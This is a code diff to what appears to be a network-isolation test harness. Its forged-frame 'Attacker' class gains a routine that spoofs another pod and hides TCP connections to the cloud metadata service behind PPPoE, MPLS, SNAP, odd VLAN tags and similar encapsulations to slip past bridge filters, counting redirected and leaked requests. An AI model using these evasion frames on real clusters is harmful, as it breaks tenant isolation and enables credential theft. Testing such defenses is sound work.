@@ -68,6 +68,9 @@ _GET = b"GET /stolen HTTP/1.1\r\n\r\n"
 class Attacker(Wire):
     """Frames of a pod's own making; made inside it."""
 
+    wrapped: tuple[int, bytes] | None = None
+    """The type of each packet's frame in place of its own, and what it is put behind."""
+
     def __init__(self, address: str) -> None:
         super().__init__(b"", address)
         self.mac = self.own_mac = bytes(self._socket.getsockname()[4])
@@ -116,7 +119,8 @@ class Attacker(Wire):
         return b""
 
     def send(self, to: bytes, kind: int, content: bytes) -> None:
-        self.send_from(to, self.mac, kind, content)
+        kind, head = self.wrapped or (kind, b"")
+        self.send_from(to, self.mac, kind, head + content)
 
 
 def attacker(pod: str, address: str) -> Attacker:
@@ -240,9 +244,10 @@ async def learning(*, guarded: bool) -> dict[str, Any]:
 
 
 async def link_local(*, guarded: bool) -> dict[str, Any]:
-    """Pod p1 sends IPv4 and ARP in p2's name to the addresses that bridges keep to themselves.
+    """Pod p1 sends IPv4 and ARP in p2's name where a filter of a bridge may not find them.
 
-    Such frames (01:80:c2:00:00:0x, IEEE 802.1Q 8.6.3) pass no filter of the bridge.
+    Frames to the addresses that bridges keep to themselves (01:80:c2:00:00:0x, IEEE 802.1Q 8.6.3)
+    pass no filter. Behind other types of frames the kernel may look for IPv4 (br_netfilter).
     """
     imds = Imds()
     taught, reached = {}, []
@@ -267,12 +272,55 @@ async def link_local(*, guarded: bool) -> dict[str, Any]:
             if believed := await beliefs():
                 taught[last] = believed
         sent_on = await redirected()
+        wire.mac = own
+        hidden = await _hidden(wire, victim)
     return {
         "taught": taught,
         "reached": reached,
         "redirected": sent_on,
+        "hidden": hidden,
         "leaked": len(imds.seen),
     }
+
+
+async def _hidden(wire: Attacker, victim: Attacker) -> dict[str, int]:
+    """Return how many connections are redirected of those begun behind each type of frame."""
+    await asyncio.to_thread(_look_behind_all_types)
+    await put_right()
+    gateway, found = await mac_of(""), {}
+    for port, (what, tag, kind, head) in enumerate(_WRAPPED, 41_000):
+        before = await redirected()
+        wire.tag, wire.wrapped = tag, (kind, head)
+        wire.send_tcp(gateway, IMDS, port, (1, 0), SYN)
+        wire.tag = b""
+        wire.send_from(_BROADCAST, wire.mac, 0x9000, bytes(60))
+        victim.receives(0x9000, set(), b"")
+        found[what] = await redirected() - before
+    return found
+
+
+BRIDGE_NETFILTER = Path("/proc/sys/net/bridge")
+"""Kernels without br_netfilter have no such folder."""
+_PPPOE = struct.pack("!BBHHH", 0x11, 0, 1, 42, 0x0021)
+"""Version, code, session, length of what follows, and IPv4 (RFC 2516, 4; RFC 1332)."""
+_WRAPPED = (
+    ("PPPoE", b"", 0x8864, _PPPOE),
+    ("PPPoE in VLAN 0", VLAN_0["802.1Q"], 0x8864, _PPPOE),
+    ("MPLS", b"", 0x8847, struct.pack("!I", 16 << 12 | 1 << 8 | 64)),
+    ("SNAP", b"", 48, bytes.fromhex("aaaa03 000000 0800")),
+    ("802.2", b"", 43, bytes.fromhex("060603")),
+    ("a tag of another type", b"", 0x9100, bytes.fromhex("0000 0800")),
+    ("a backbone's tag", b"", 0x88E7, bytes(16) + bytes.fromhex("0800")),
+    ("IPv6", b"", _IPV6, bytes.fromhex("60000000 0028 04 40") + _EMPTY_IPV6[8:]),
+)
+
+
+def _look_behind_all_types() -> None:
+    """Have bridged packets pass IPv4's hooks, whatever they are put behind."""
+    for what in ("call-iptables", "filter-vlan-tagged", "filter-pppoe-tagged"):
+        setting = BRIDGE_NETFILTER / f"bridge-nf-{what}"
+        if setting.exists():
+            setting.write_text("1")
 
 
 def _ipv4_of(source: str) -> bytes:
